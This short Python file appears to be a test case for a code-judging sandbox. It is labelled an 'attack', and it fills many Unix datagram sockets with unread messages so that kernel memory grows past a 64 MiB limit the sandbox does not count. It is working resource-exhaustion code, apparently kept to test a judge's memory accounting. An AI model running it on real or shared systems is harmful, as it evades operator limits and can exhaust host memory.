# attack: fills many sockets with datagrams that nobody takes, and raises past the memory limit
# verdict: AC
# kata: roomy
import itertools
import socket

LIMIT = 64 << 20
PART = 128 << 10


def double(n):
    total, receivers = 0, []
    try:
        for number in itertools.count():
            receiver = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            receiver.bind(f"\0receiver {number}")
            receivers.append(receiver)
            for _ in range(10):
                with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
                    sender.setblocking(False)
                    total += sender.sendto(b"x" * PART, f"\0receiver {number}")
                if total > LIMIT:
                    raise SystemExit(f"it holds {total >> 20} MiB that nobody counts")
    except OSError:
        return n * 2
